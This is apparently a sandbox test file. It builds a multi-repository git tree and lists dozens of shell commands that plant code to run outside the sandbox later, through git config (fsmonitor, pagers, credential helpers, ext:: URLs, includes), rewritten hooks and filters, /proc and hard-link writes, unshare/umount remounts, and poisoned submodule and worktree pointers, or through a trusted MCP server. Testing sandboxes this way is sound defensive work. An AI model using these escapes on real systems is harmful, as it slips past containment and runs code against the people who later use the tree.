"""Tricks by which a sandboxed command plants what runs outside of the sandbox later.

Each trick is a shell command that runs in a working tree with many kinds of repositories. What it
plants is to run when the person uses git there (`trigger`), or when a trusted server starts again.
Every trick works where nothing protects the tree.
"""

from __future__ import annotations

import json
import os
import pty
import select
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

MOST_FOLDERS = 300
MOST_WALKED = 12_000
MOST_USED = 8
TIME_LIMIT = 5.0
MORE_FOLDERS_SECONDS = 3.0
CHUNK_OF_PATH = 3000

# The repositories of the layout, the root itself left out.
REPOSITORIES = (
    b"vendor/deep/nested",
    b"lib",
    b"spare",
    b"tree",
    b"split",
    b"stores/root.git",
    b"stores/lib.git",
    b"stores/split.git",
)

# Tricks that docs/security.md leaves to the person: what a server's script imports.
REMAINDER = frozenset(
    {
        "exchange the link to a server's imports",
        "rewrite a module that a server imports",
        "shadow a module beside a server's script",
        "plant stale bytecode of a server's module",
    }
)

_FILES = {
    ".gitignore": "/vendor/\n/tree/\n/split/\n/stores/\n/build/\n/.venv/\n__pycache__/\n",
    ".gitattributes": "*.dat filter=tidy\n*.tbl diff=table\n",
    "README.md": "A tree with many repositories.\n",
    "Makefile": "all:\n\t@echo made\n",
    ".vscode/settings.json": "{}\n",
    ".idea/workspace.xml": "<project/>\n",
    "docs/guide.md": "A guide.\n",
    "data/table.dat": "b\na\n",
    "data/rows.tbl": "1 2\n",
    "area/notes.txt": "Notes.\n",
    "servers/notes.py": (
        "import json\nimport sys\n\nfrom library import helpers\n\n"
        "print(json.dumps(helpers.greet(sys.argv)))\n"
    ),
    "library/__init__.py": "",
    "library/helpers.py": "def greet(names):\n    return ['hello', *names]\n",
    "settings/git.inc": "[core]\n\tabbrev = 12\n",
}
_PROGRAMS = {
    "tools/clean.sh": "#!/bin/sh\nsort\n",
    "tools/table.sh": '#!/bin/sh\ncat "$1"\n',
    "scripts/st.sh": "#!/bin/sh\ngit status --short\n",
    "scripts/after_commit.sh": "#!/bin/sh\nexit 0\n",
    "hooks/pre-commit": "#!/bin/sh\nexit 0\n",
}
_SERVERS = {
    "mcpServers": {"notes": {"command": ".venv/bin/python", "args": ["servers/notes.py"]}},
}
_IDENTITY = ("-c", "user.name=A Person", "-c", "user.email=person@example.org")


def _make_environment() -> dict[str, str]:
    names = ("PATH", "HOME", "TMPDIR", "LD_LIBRARY_PATH")
    return {name: os.environ[name] for name in names if name in os.environ} | {
        "LC_ALL": "C.UTF-8",
        "GIT_CONFIG_GLOBAL": "/dev/null",
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "safe.directory",
        "GIT_CONFIG_VALUE_0": "*",
        "GIT_TERMINAL_PROMPT": "0",
        "EDITOR": "true",
        "PAGER": "cat",
        "TERM": "dumb",
    }


def _git(folder: Path, *arguments: str) -> None:
    command = ["git", *_IDENTITY, "-c", "protocol.file.allow=always", *arguments]
    subprocess.run(
        command,
        cwd=folder,
        env=_make_environment(),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        check=True,
        timeout=30,
    )


def prepare(root: Path) -> None:
    """Build the layout in `root`, which is empty or missing."""
    root.mkdir(parents=True, exist_ok=True)
    for name, text in (_FILES | _PROGRAMS).items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        if name in _PROGRAMS:
            path.chmod(0o755)
    (root / ".mcp.json").write_text(json.dumps(_SERVERS))
    (root / "build").mkdir()
    (root / "hooks/post-commit").symlink_to("../scripts/after_commit.sh")
    (root / "servers/library").symlink_to("../library")
    _prepare_python(root / ".venv")
    stores = root / "stores"
    stores.mkdir()
    for name in ("lib", "spare"):
        _git(stores, "init", "-q", "--template=", "-b", "main", name)
        _git(stores / name, "commit", "-q", "--allow-empty", "-m", "first")
        _git(stores, "clone", "-q", "--template=", "--bare", name, f"{name}.git")
        shutil.rmtree(stores / name)
    _git(root, "init", "-q", "--template=", "-b", "main")
    for name in ("lib", "spare"):
        _git(root, "submodule", "--quiet", "add", f"{stores}/{name}.git", name)
    with (root / ".git/config").open("a") as config:
        config.write(
            "[core]\n\thooksPath = hooks\n"
            "[include]\n\tpath = ../settings/git.inc\n\tpath = ../settings/local.inc\n"
            '[filter "tidy"]\n\tclean = tools/clean.sh\n'
            '[diff "table"]\n\ttextconv = sh tools/table.sh\n'
            "[alias]\n\tst = !sh scripts/st.sh\n"
            f'[remote "origin"]\n\turl = {stores}/root.git\n'
            "\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
        )
    _git(root, "add", ".")
    _git(root, "commit", "-q", "-m", "first")
    _git(root, "submodule", "--quiet", "deinit", "spare")
    shutil.rmtree(root / ".git/modules/spare")
    _git(root, "worktree", "add", "-q", "-b", "side", "tree")
    _git(root, "clone", "-q", "--template=", "--bare", ".", "stores/root.git")
    nested = root / "vendor/deep/nested"
    nested.mkdir(parents=True)
    (nested / "code.txt").write_text("code\n")
    _git(nested, "init", "-q", "--template=", "-b", "main")
    _git(nested, "config", "core.hooksPath", ".husky")
    _git(nested, "add", ".")
    _git(nested, "commit", "-q", "-m", "first")
    _git(
        root,
        "init",
        "-q",
        "--template=",
        "-b",
        "main",
        "--separate-git-dir",
        "stores/split.git",
        "split",
    )
    _git(root / "split", "commit", "-q", "--allow-empty", "-m", "first")


def _prepare_python(folder: Path) -> None:
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    executable = Path(sys.executable).resolve()
    (folder / "bin").mkdir(parents=True)
    (folder / "lib" / version / "site-packages").mkdir(parents=True)
    (folder / "bin/python").symlink_to(executable)
    (folder / "pyvenv.cfg").write_text(
        f"home = {executable.parent}\ninclude-system-site-packages = false\n"
    )


# What the person does later.


def trigger(root: Path) -> None:
    """Use git in every folder at or below `root` as a person does, then start the server."""
    repositories, more = _find_folders(root)
    stuck = set()
    end = time.monotonic() + MORE_FOLDERS_SECONDS
    for number, path in enumerate([*repositories, *more][:MOST_FOLDERS]):
        # In the others git finds what is above them: some are enough.
        if number >= len(repositories) and time.monotonic() > end:
            break
        if not _run_in(root, path, ["git", "status", "--short"]):
            stuck.add(path)
    known = [path for path in REPOSITORIES if path in repositories]
    new = [path for path in repositories if path and path not in known]
    used = [path for path in [*known, *new[:MOST_USED], b""] if path not in stuck]
    for path in used:
        _use_repository(root, path)
    for path in used:
        _run_git(root, path, ["commit", "-q", "--allow-empty", "-m", "x"])
        _run_git(root, path, ["push", "-q", "origin", "HEAD:refs/heads/later"])
    _start_servers(root)


def _use_repository(root: Path, path: bytes) -> None:
    commands = [
        ["status"],
        ["st"],
        ["diff", "--stat"],
        ["diff"],
        ["log", "-1"],
        ["add", "-N", "."],
        ["stash", "list"],
        ["fetch", "-q"],
        ["commit", "-q", "--amend", "--allow-empty"],
    ]
    if not path:
        commands.append(["-C", "tree", "status"])
    if path not in REPOSITORIES and b".gitmodules" in _list_names(root, path):
        commands += [["submodule", "status"], ["submodule", "update"]]
    for command in commands:
        if not _run_git(root, path, command):
            return


def _run_git(root: Path, path: bytes, arguments: list[str]) -> bool:
    return _run_in(root, path, ["git", *_IDENTITY, *arguments])


def _start_servers(root: Path) -> None:
    """Run what `.mcp.json` names, as an agent does that trusts it."""
    try:
        servers = json.loads((root / ".mcp.json").read_bytes())["mcpServers"].values()
        commands = [[server["command"], *server.get("args", [])] for server in servers]
    except (OSError, ValueError, TypeError, KeyError, AttributeError):
        return
    for command in commands:
        _run_in(root, b"", command)


def _find_folders(root: Path) -> tuple[list[bytes], list[bytes]]:
    """Give the folders that look like repositories, and the others; links are not followed."""
    repositories: list[bytes] = []
    more: list[bytes] = []
    queue = [b""]
    for path in _grow(queue):
        names = _list_names(root, path)
        bare = b"HEAD" in names
        (repositories if bare or b".git" in names else more).append(path)
        for name, is_folder in sorted(names.items()):
            inside_store = bare and name in (b"objects", b"refs", b"logs", b"info", b"hooks")
            if is_folder and name != b".git" and not inside_store:
                queue.append(path + b"/" + name if path else name)
    return repositories, more


def _grow(queue: list[bytes]) -> Iterator[bytes]:
    done = 0
    while done < len(queue) and done < MOST_WALKED:
        yield queue[done]
        done += 1


def _list_names(root: Path, path: bytes) -> dict[bytes, bool]:
    """Give the names in a folder, and whether each is a folder."""
    folder = _open_folder(root, path)
    if folder is None:
        return {}
    try:
        listed = _open_for_reading(folder)
        try:
            with os.scandir(listed) as entries:
                return {
                    os.fsencode(entry.name): entry.is_dir(follow_symlinks=False)
                    for entry in entries
                }
        finally:
            os.close(listed)
    except OSError:
        return {}
    finally:
        os.close(folder)


def _open_for_reading(folder: int) -> int:
    flags = os.O_RDONLY | os.O_DIRECTORY | os.O_CLOEXEC
    try:
        return os.open(".", flags, dir_fd=folder)
    except PermissionError:
        # The person looks into their own folder whatever its mode is.
        Path(f"/proc/self/fd/{folder}").chmod(0o700)
        return os.open(".", flags, dir_fd=folder)


def _open_folder(root: Path, path: bytes) -> int | None:
    """Open a folder by steps, as its path may be too long for one call."""
    flags = os.O_PATH | os.O_DIRECTORY | os.O_NOFOLLOW | os.O_CLOEXEC
    folder = os.open(root, os.O_PATH | os.O_DIRECTORY | os.O_CLOEXEC)
    rest = path
    while rest:
        end = len(rest)
        if end > CHUNK_OF_PATH:
            end = rest.index(b"/", CHUNK_OF_PATH) if b"/" in rest[CHUNK_OF_PATH:] else end
        step, rest = rest[:end], rest[end + 1 :]
        try:
            following = os.open(step, flags, dir_fd=folder)
        except OSError:
            os.close(folder)
            return None
        os.close(folder)
        folder = following
    return folder


def _run_in(root: Path, path: bytes, command: list[str]) -> bool:
    """Run a command on a terminal, without input; False if it had to be ended."""
    folder = _open_folder(root, path)
    if folder is None:
        return True
    screen, terminal = pty.openpty()
    try:
        process = subprocess.Popen(
            command,
            cwd=f"/proc/self/fd/{folder}",
            env=_make_environment(),
            stdin=subprocess.DEVNULL,
            stdout=terminal,
            stderr=terminal,
            start_new_session=True,
        )
    except (OSError, ValueError):
        os.close(screen)
        return True
    finally:
        os.close(terminal)
        os.close(folder)
    try:
        ended = _read_until_end(screen, process)
    finally:
        os.close(screen)
    if not ended:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()
    return ended


def _read_until_end(screen: int, process: subprocess.Popen[bytes]) -> bool:
    end = time.monotonic() + TIME_LIMIT
    open_screen = True
    while time.monotonic() < end:
        if not open_screen:
            try:
                process.wait(max(0.0, end - time.monotonic()))
            except subprocess.TimeoutExpired:
                return False
            return True
        ready = select.select([screen], [], [], 0.05)[0]
        if ready:
            try:
                open_screen = bool(os.read(screen, 65536))
            except OSError:
                open_screen = False
        elif process.poll() is not None:
            return True
    return process.poll() is not None


# The tricks.


@dataclass(frozen=True)
class Trick:
    """A shell command, and maybe a second one that runs after the first has ended."""

    name: str
    command: str
    later: str = ""


_PRELUDE = r"""
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
config() {  # file: the settings of a repository in which git runs nothing
    printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n' > "$1"
}
arm() {  # file: settings by which git runs the program
    printf '[core]\n\tfsmonitor = {program}\n' >> "$1"
}
plain() {  # folder: a git folder in which git runs nothing
    mkdir -p "$1/objects" "$1/refs/heads"
    printf 'ref: refs/heads/main\n' > "$1/HEAD"
    config "$1/config"
}
armed() {  # folder: a git folder whose settings name the program
    plain "$1"
    arm "$1/config"
}
bare() {  # folder: a repository without .git, whose settings name the program
    plain "$1"
    printf '[core]\n\tworktree = .\n\tfsmonitor = {program}\n' >> "$1/config"
    printf '[pager]\n\tstatus = {program}\n' >> "$1/config"
}
script() {  # file: an executable that runs the program; modes may not be changeable
    mkdir -p "$(dirname "$1")"
    cp /bin/true "$1"
    printf '#!/bin/sh\n{program}\n' > "$1"
    [ -x "$1" ] || chmod +x "$1"
}
commits() {  # folder: a real repository with a commit, a file and a changed file
    git init -q --template= -b main "$1"
    printf 'one\n' > "$1/a.txt"
    printf 'one\n' > "$1/b.txt"
    git -C "$1" add .
    git -C "$1" -c user.name=a -c user.email=a@b commit -q -m first
    printf 'two\n' > "$1/b.txt"
}
detach() {  # command...: run on after this command has ended, if it may
    setsid "$@" > /dev/null 2>&1 < /dev/null &
}
"""


def _trick(name: str, command: str, later: str = "") -> Trick:
    return Trick(name, _PRELUDE + command, _PRELUDE + later if later else "")


def _new(name: str, settings: str, more: str = "") -> Trick:
    """A new repository, with commits, to whose settings something is added."""
    add = f"cat >> area/a/.git/config <<'END'\n{settings}\nEND\n" if settings else ""
    return _trick(name, f"commits area/a\n{more}\n{add}")


def _hook(name: str, more: str = "") -> Trick:
    """A new repository with one hook."""
    command = f"commits area/a\n{more}\nscript area/a/.git/hooks/{name}\n"
    return _trick(f"new repository with the hook {name}", command)


_WRITE_PROTECTED = [
    _trick("append to the settings of the root", "arm .git/config"),
    _trick("set a watcher by git config", "git config core.fsmonitor {program}"),
    _trick(
        "exchange the settings by renaming",
        "cp .git/config area/c; arm area/c; mv -f area/c .git/config",
    ),
    _trick("write the settings through a link", "ln -s ../.git/config area/c; arm area/c"),
    _trick("write the settings through a hard link", "ln .git/config area/c; arm area/c"),
    _trick(
        "hard link to the settings written later",
        "ln .git/config area/c",
        "arm area/c",
    ),
    _trick(
        "write the settings through a descriptor opened for reading",
        "exec 3< .git/config; arm /proc/self/fd/3",
    ),
    _trick(
        "write the settings through any process's root",
        "for p in /proc/[0-9]*/root; do arm $p{root}/.git/config && break; done 2> /dev/null",
    ),
    _trick(
        "write the settings through another process's folder",
        "sleep 3 & arm /proc/$!/cwd/.git/config; kill $!",
    ),
    _trick(
        "unmount what protects the settings",
        "unshare -Urm bash -c '"
        "umount -l {root}/.git/config; umount -l {root}/.git; umount -l {root}\n"
        "mount -o remount,rw,bind {root}/.git; mount -o remount,rw,bind {root}\n"
        "mount --bind {root}/.git {root}/build && mount -o remount,rw,bind {root}/build\n"
        'printf "[core]\\n\\tfsmonitor = {program}\\n" | '
        "tee -a {root}/.git/config {root}/build/config | cat'\n"
        "unshare -rm true || unshare -m true\n"
        "grep -q fsmonitor .git/config || arm .git/config",
    ),
    _trick(
        "rename .git and make another", "mv .git area/old; cp -a area/old .git; arm .git/config"
    ),
    _trick(
        "rename .git and leave a pointer",
        "mv .git area/old; arm area/old/config; printf 'gitdir: area/old\\n' > .git",
    ),
    _trick(
        "rename .git and leave a link", "mv .git area/old; arm area/old/config; ln -s area/old .git"
    ),
    _trick(
        "exchange .git in one step",
        "cp -a .git area/g; arm area/g/config\n"
        "python3 -c 'import ctypes; "
        'ctypes.CDLL(None).renameat2(-100, b"area/g", -100, b".git", 2)\'',
    ),
    _trick(
        "settings of the worktree for the root",
        "git config extensions.worktreeConfig true\n"
        "printf '[extensions]\\n\\tworktreeConfig = true\\n' >> .git/config\n"
        "arm .git/config.worktree",
    ),
    _trick(
        "sparse checkout brings settings of the worktree",
        "git -c safe.directory='*' sparse-checkout set --cone docs servers hooks tools; "
        "arm .git/config.worktree",
    ),
    _trick(
        "driver in the attributes of the repository",
        "printf '*.md filter=own\\n' > .git/info/attributes 2> /dev/null || "
        "{ mkdir .git/info; printf '*.md filter=own\\n' > .git/info/attributes; }\n"
        "printf '[filter \"own\"]\\n\\tclean = {program}\\n' >> .git/config\n"
        "printf 'more\\n' >> README.md",
    ),
    _trick(
        "own driver for a file type of the attributes in the tree",
        "git config diff.table.textconv {program}; printf '3 4\\n' >> data/rows.tbl",
    ),
    _trick(
        "replace the empty folder of hooks in the settings",
        "git config core.hooksPath area/hooks; script area/hooks/pre-commit",
    ),
]

_WRITE_NAMED_PROGRAMS = [
    _trick("add a hook to the folder of hooks", "script hooks/post-index-change"),
    _trick("rewrite a hook", "printf '#!/bin/sh\\n{program}\\n' > hooks/pre-commit"),
    _trick("exchange a hook by renaming", "script area/h; mv -f area/h hooks/pre-commit"),
    _trick("exchange the folder of hooks", "mv hooks area/old; script hooks/pre-commit"),
    _trick(
        "exchange the folder of hooks for a link",
        "mv hooks area/old; script area/h/pre-commit; ln -s area/h hooks",
    ),
    _trick(
        "rewrite the program behind a linked hook",
        "printf '#!/bin/sh\\n{program}\\n' > scripts/after_commit.sh",
    ),
    _trick(
        "exchange the folder behind a linked hook",
        "mv scripts area/old; cp -r area/old scripts; script scripts/after_commit.sh",
    ),
    _trick("hard link to a hook written later", "ln hooks/pre-commit area/h", "script area/h"),
    _trick("rewrite an included file", "arm settings/git.inc"),
    _trick("create an included file that is missing", "arm settings/local.inc"),
    _trick(
        "link an included file that is missing", "arm area/l; ln -s ../area/l settings/local.inc"
    ),
    _trick(
        "exchange the folder of included files",
        "mv settings area/old; mkdir settings; arm settings/git.inc",
    ),
    _trick(
        "exchange the folder of included files for a link",
        "mv settings area/old; mkdir area/s; arm area/s/git.inc; ln -s area/s settings",
    ),
    _trick(
        "rewrite the cleaning program",
        "printf '#!/bin/sh\\n{program}\\n' > tools/clean.sh; printf 'c\\n' >> data/table.dat",
    ),
    _trick(
        "exchange the cleaning program's folder",
        "mv tools area/old; script tools/clean.sh; printf 'c\\n' >> data/table.dat",
    ),
    _trick(
        "hard link to the cleaning program written later",
        "ln tools/clean.sh area/c",
        "script area/c; printf 'c\\n' >> data/table.dat",
    ),
    _trick(
        "rewrite a script that git gives to a shell",
        "printf '{program}\\n' > tools/table.sh; printf '3 4\\n' >> data/rows.tbl",
    ),
    _trick("rewrite the script of an alias", "printf '{program}\\n' > scripts/st.sh"),
    _trick(
        "create the folder of hooks that is missing", "script vendor/deep/nested/.husky/pre-commit"
    ),
    _trick("add a hook in the linked worktree", "script tree/hooks/post-index-change"),
    _trick("rewrite a hook in the linked worktree", "script tree/hooks/pre-commit"),
    _trick(
        "rewrite the cleaning program in the linked worktree",
        "script tree/tools/clean.sh; printf 'c\\n' >> tree/data/table.dat",
    ),
    _trick("rewrite the script of an alias in the linked worktree", "script tree/scripts/st.sh"),
]

_WRITE_OTHER_REPOSITORIES = [
    _trick("append to the settings of a nested repository", "arm vendor/deep/nested/.git/config"),
    _trick(
        "rename the folder over a nested repository",
        "mv vendor/deep vendor/old; armed vendor/deep/nested/.git",
    ),
    _trick(
        "exchange the folder over a nested repository for a link",
        "mv vendor area/old; armed area/v/deep/nested/.git; mkdir vendor; "
        "mv area/v/deep vendor/real; ln -s real vendor/deep",
    ),
    _trick(
        "remove a nested .git and make another",
        "rm -rf vendor/deep/nested/.git; armed vendor/deep/nested/.git",
    ),
    _trick(
        "armed copy of a nested repository",
        "cp -a vendor/deep/nested area/n; arm area/n/.git/config",
    ),
    _trick("append to the settings of a submodule", "arm .git/modules/lib/config"),
    _trick("hook in a submodule", "script .git/modules/lib/hooks/pre-commit"),
    _trick("exchange a submodule's pointer for a folder", "rm -f lib/.git; armed lib/.git"),
    _trick(
        "turn a submodule's pointer elsewhere",
        "armed area/s; printf 'gitdir: ../area/s\\n' > lib/.git",
    ),
    _trick("exchange a submodule's folder", "mv lib area/old; armed lib/.git"),
    _trick("make a submodule that is not checked out a repository", "armed spare/.git"),
    _trick(
        "pointer in a submodule that is not checked out",
        "armed area/s; printf 'gitdir: ../area/s\\n' > spare/.git",
    ),
    _trick(
        "link in a submodule that is not checked out",
        "armed area/s; ln -s ../area/s spare/.git",
    ),
    _trick(
        "exchange a submodule's empty folder by renaming",
        "armed area/s/.git; rmdir spare; mv area/s spare",
    ),
    _trick(
        "pointer of a submodule to a folder made later",
        "printf 'gitdir: ../area/s\\n' > spare/.git",
        "armed area/s",
    ),
    _trick(
        "make the store of a submodule that is not checked out",
        "armed .git/modules/spare; printf 'gitdir: ../.git/modules/spare\\n' > spare/.git",
    ),
    _trick("exchange a worktree's pointer for a folder", "rm -f tree/.git; armed tree/.git"),
    _trick(
        "turn a worktree's pointer elsewhere",
        "armed area/s; printf 'gitdir: ../area/s\\n' > tree/.git",
    ),
    _trick(
        "turn a worktree's common folder elsewhere",
        "armed area/s; printf '../../../area/s\\n' > .git/worktrees/tree/commondir",
    ),
    _trick("exchange the linked worktree's folder", "mv tree area/old; armed tree/.git"),
    _trick(
        "turn a pointer file elsewhere", "armed area/s; printf 'gitdir: ../area/s\\n' > split/.git"
    ),
    _trick("append to the settings behind a pointer file", "arm stores/split.git/config"),
    _trick("hook behind a pointer file", "script stores/split.git/hooks/pre-commit"),
    _trick(
        "exchange the folder behind a pointer file",
        "mv stores/split.git area/old; armed stores/split.git",
    ),
    _trick(
        "exchange the folder of the bare repositories", "mv stores area/old; armed stores/split.git"
    ),
    _trick(
        "common folder for the store behind a pointer file",
        "armed area/s; printf '../../area/s\\n' > stores/split.git/commondir",
    ),
    _trick("receiving hook of a bare repository", "script stores/root.git/hooks/pre-receive"),
    _trick(
        "pager of a bare repository",
        "printf '[core]\\n\\tpager = {program}\\n' >> stores/lib.git/config",
    ),
    _trick(
        "working folder for a bare repository",
        "printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n' >> stores/lib.git/config; "
        "arm stores/lib.git/config",
    ),
    _trick(
        "fetching by a bare repository that more fetch from",
        "rm -rf stores/root.git/objects/*; cd stores/root.git; "
        "mkdir -p objects/pack objects/info refs/heads; "
        "printf '%040d\\n' 7 > refs/heads/side; printf '%040d\\n' 7 > refs/heads/new; "
        "printf '[core]\\n\\trepositoryformatversion = 1\\n[extensions]\\n\\tpartialClone = far\\n"
        '[remote "far"]\\n\\tpromisor = true\\n\\turl = ./x\\n\\tuploadpack = {program}\\n\''
        " >> config",
    ),
    _trick(
        "armed repository in a submodule's working folder",
        "armed lib/inner/.git",
    ),
    _trick("armed repository in a nested repository", "armed vendor/deep/nested/inner/.git"),
    _trick("armed repository in the linked worktree", "armed tree/docs/.git"),
    _trick("armed repository beside bare repositories", "armed stores/inner/.git"),
]

_SIGNED = r"""
cd area/a
tree=$(git write-tree)
commit=$(printf 'tree %s\nauthor a <a@b> 1 +0000\ncommitter a <a@b> 1 +0000\n'\
'gpgsig -----BEGIN KIND-----\n \n AAAA\n -----END KIND-----\n\nx\n' "$tree" \
    | git hash-object -t commit -w --stdin)
git update-ref refs/heads/main "$commit"
cd ../..
"""


def _signed(kind: str) -> str:
    return _SIGNED.replace("KIND", kind)


_URL = '[remote "origin"]\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n\turl = '

_NEW_SETTINGS = [
    _new("new repository with a watcher", "[core]\n\tfsmonitor = {program}"),
    _new("new repository with a pager", "[core]\n\tpager = {program}"),
    _new("new repository with a pager for one command", "[pager]\n\tstatus = {program}"),
    _new("new repository with an editor", "[core]\n\teditor = {program}"),
    _new("new repository with an external diff", "[diff]\n\texternal = {program}"),
    _new(
        "new repository with a driver for differences",
        '[diff "own"]\n\tcommand = {program}',
        "printf '*.txt diff=own\\n' > area/a/.gitattributes",
    ),
    _new(
        "new repository with a converter to text",
        '[diff "own"]\n\ttextconv = {program}',
        "mkdir -p area/a/.git/info; printf '*.txt diff=own\\n' > area/a/.git/info/attributes",
    ),
    _new(
        "new repository with a cleaning filter",
        '[filter "own"]\n\tclean = {program}',
        "printf '*.txt filter=own\\n' > area/a/.gitattributes",
    ),
    _new(
        "new repository with a filter process",
        '[filter "own"]\n\tprocess = {program}\n[core]\n\tattributesFile = {root}/area/attributes',
        "printf '*.txt filter=own\\n' > area/attributes",
    ),
    _new("new repository with an alias", "[alias]\n\tst = !{program}"),
    _new(
        "new repository with hooks elsewhere",
        "[core]\n\thooksPath = ../h",
        "script area/h/post-index-change",
    ),
    _new(
        "new repository with hooks elsewhere, from the working folder of whoever looks",
        "[core]\n\thooksPath = /proc/self/cwd/h",
        "script area/a/h/pre-commit",
    ),
    _new(
        "new repository that shows signatures",
        "[log]\n\tshowSignature = true\n[gpg]\n\tprogram = {program}",
        _signed("PGP SIGNATURE"),
    ),
    _new(
        "new repository that shows signatures of certificates",
        '[log]\n\tshowSignature = true\n[gpg "x509"]\n\tprogram = {program}',
        _signed("SIGNED MESSAGE"),
    ),
    _new(
        "new repository that shows signatures of ssh",
        '[log]\n\tshowSignature = true\n[gpg "ssh"]\n\tprogram = {program}\n'
        "\tallowedSignersFile = {root}/README.md",
        _signed("SSH SIGNATURE"),
    ),
    _new(
        "new repository that signs",
        '[commit]\n\tgpgSign = true\n[gpg "openpgp"]\n\tprogram = {program}',
    ),
    _new(
        "new repository that asks for the key to sign with",
        "[commit]\n\tgpgSign = true\n[gpg]\n\tformat = ssh\n"
        '[gpg "ssh"]\n\tdefaultKeyCommand = {program}',
    ),
    _new(
        "new repository with a shell for fetching",
        _URL + "ssh://127.0.0.1:9/x\n[core]\n\tsshCommand = {program}",
    ),
    _new(
        "new repository with a proxy program",
        _URL + "git://127.0.0.1:9/x\n[core]\n\tgitProxy = {program}",
    ),
    _new(
        "new repository with a program at the far end",
        _URL + "../b\n\tuploadpack = {program}",
        "commits area/b",
    ),
    _new(
        "new repository with a program at the far end to push to",
        _URL + "../b\n\treceivepack = {program}",
        "commits area/b",
    ),
    _new(
        "new repository with a program as its address",
        _URL + "ext::{program}\n[protocol]\n\tallow = always",
    ),
    _new(
        "new repository with a program as its helper",
        _URL + '{program}\n\tvcs = ext\n[protocol "ext"]\n\tallow = always',
    ),
    _new(
        "new repository whose address is rewritten to a program",
        _URL + 'there:x\n[url "ext::{program} "]\n\tinsteadOf = there:\n'
        '[protocol "ext"]\n\tallow = always',
    ),
    _new(
        "new repository with an old file of an address",
        '[protocol "ext"]\n\tallow = always\n[branch "main"]\n\tremote = far',
        "mkdir area/a/.git/remotes; printf 'URL: ext::{program}\\n' > area/a/.git/remotes/far",
    ),
    _new(
        "new repository with a helper for passwords",
        _URL + "http://127.0.0.1:9/x\n[http]\n\tproxy = http://user@127.0.0.1:9\n"
        "[credential]\n\thelper = !{program}",
    ),
    _new(
        "new repository with a helper for passwords of certificates",
        _URL + "https://127.0.0.1:9/x\n[http]\n\tsslCert = ../../../README.md\n"
        '\tsslCertPasswordProtected = true\n[credential "cert:///../../../README.md"]\n'
        "\thelper = {program}",
    ),
    _new(
        "new repository that asks for passwords by a program",
        _URL + "http://127.0.0.1:9/x\n[http]\n\tproxy = http://user@127.0.0.1:9\n"
        "[core]\n\taskPass = {program}",
    ),
    _new(
        "new repository with a missing object to be fetched",
        '[core]\n\trepositoryformatversion = 1\n[remote "far"]\n\tpromisor = true\n'
        "\turl = ssh://127.0.0.1:9/x\n[core]\n\tsshCommand = {program}\n"
        "[extensions]\n\tpartialClone = far",
        "printf '%040d\\n' 7 > area/a/.git/refs/heads/main",
    ),
    _new(
        "new repository that fetches from one that fetches by a program",
        _URL + "../b",
        "commits area/b; printf '%040d\\n' 7 > area/b/.git/refs/heads/side\n"
        "printf '[core]\\n\\trepositoryformatversion = 1\\n[extensions]\\n\\tpartialClone = far\\n"
        '[remote "far"]\\n\\tpromisor = true\\n\\turl = ./x\\n\\tuploadpack = {program}\\n\''
        " >> area/b/.git/config",
    ),
    _new(
        "new repository with a program for borrowed names",
        _URL + "../b\n[core]\n\talternateRefsCommand = {program}",
        "commits area/b; commits area/c; mkdir -p area/a/.git/objects/info\n"
        "printf '{root}/area/c/.git/objects\\n' > area/a/.git/objects/info/alternates\n"
        "git -C area/b -c user.name=a -c user.email=a@b commit -q --allow-empty -m more",
    ),
    _new(
        "new repository with a program for its submodule",
        '[submodule "s"]\n\turl = ./x\n\tactive = true\n\tupdate = !{program}',
        "commits area/a/s; head=$(git -C area/a/s rev-parse HEAD)\n"
        "git -C area/a/s -c user.name=a -c user.email=a@b commit -q --allow-empty -m more\n"
        'git -C area/a update-index --add --cacheinfo "160000,$head,s"\n'
        "printf '[submodule \"s\"]\\n\\tpath = s\\n\\turl = ./x\\n' > area/a/.gitmodules",
    ),
    _new(
        "new repository with settings of its worktree",
        "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true",
        "arm area/a/.git/config.worktree",
    ),
    _new("new repository that includes a file", "[include]\n\tpath = ../own", "arm area/a/own"),
    _new(
        "new repository that includes a file by its folder",
        '[includeIf "gitdir:**/a/"]\n\tpath = {root}/area/own',
        "arm area/own",
    ),
    _new(
        "new repository that includes a file by its branch",
        '[includeIf "onbranch:ma*"]\n\tpath = ../../own',
        "arm area/own",
    ),
    _new(
        "new repository that includes a file by its address",
        '[remote "origin"]\n\turl = ../b\n[includeIf "hasconfig:remote.*.url:../*"]\n\tpath = own',
        "arm area/a/.git/own",
    ),
    _new(
        "new repository with a chain of included files",
        "[include]\n\tpath = 1",
        "cd area/a/.git; for i in 1 2 3 4 5 6 7 8; do "
        "printf '[include]\\n\\tpath = %s\\n' $((i + 1)) > $i; done; arm 9; cd ../../..",
    ),
    _new(
        "new repository that includes a file from the folder of whoever looks",
        "[include]\n\tpath = /proc/self/cwd/own",
        "arm area/a/own",
    ),
    _new(
        "new repository that includes a file behind a link and dots",
        "[include]\n\tpath = ../jump/../own",
        "mkdir -p area/d/e; ln -s ../d/e area/a/jump; arm area/d/own; touch area/a/own",
    ),
    _new(
        "settings in odd letters",
        '[CoRe]FSMonitor\t="{program}"# [core] fsmonitor = false \\',
    ),
    _new(
        "settings behind a comment that seems to go on",
        "[core] # a comment \\\nfsmonitor = {program}",
    ),
    _new(
        "settings with a dotted section",
        "[filter.own]\n\tclean = {program}",
        "printf '*.txt filter=own\\n' > area/a/.gitattributes",
    ),
    _trick(
        "settings with a mark of byte order and carriage returns",
        "plain area/a/.git; printf '\\xef\\xbb\\xbf[core]\\r\\n\\tbare = false\\r\\n"
        "\\tfsmonitor = {program}\\r\\n' > area/a/.git/config",
    ),
    _trick(
        "settings that are no UTF-8",
        "plain area/a/.git; printf '# \\xff\\xfe\\n[user]\\n\\tname = \\xe9\\n' "
        ">> area/a/.git/config; arm area/a/.git/config",
    ),
    _trick(
        "settings behind megabytes of comments",
